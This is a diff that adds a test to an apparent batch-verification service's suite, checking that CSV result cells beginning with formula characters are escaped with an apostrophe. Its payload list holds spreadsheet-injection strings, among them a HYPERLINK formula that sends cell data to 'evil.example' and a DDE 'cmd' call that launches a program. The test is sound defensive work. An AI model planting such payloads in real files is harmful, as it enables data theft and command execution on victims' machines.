@@ -232,6 +232,24 @@ describe('a batch run', () => {
   });
 });
 
+describe('results file against spreadsheet formulas', () => {
+  const payloads = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', '+1+1', '-2+3', '@SUM(1)', "=cmd|' /C calc'!A0", '\tSUM(1)'];
+
+  it('writes every cell that could start a formula as text after an apostrophe, its text kept', async () => {
+    const pans = panRows(payloads.length, 300);
+    const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
+    const csv = `customer_pan_number,customer_dob,name_to_match\n${pans.map((pan, row) => `${pan},,${quote(payloads[row]!)}`).join('\n')}\n`;
+    const batchId = await created(asha, csv, { batch_name: 'Formula run' });
+    await waitForTask(server, asha, batchId, (task) => task.batchState === 'FINISHED');
+    const [, ...rows] = parseCsv((await download(asha, batchId)).body);
+    expect(rows).toHaveLength(payloads.length);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.map((row) => row[2])).toEqual(payloads.map((payload) => `'${payload}`));
+    expect(rows.map((row) => row[0])).toEqual(pans);
+    expect(rows.every((row) => /^\d+$/.test(row[3]!))).toBe(true);
+  });
+});
+
 describe('tpm and stop', () => {
   it('starts at most tpm rows a minute (by the server clock)', async () => {
     const batchId = await created(asha, panCsv(panRows(5)), { tpm: '2' });
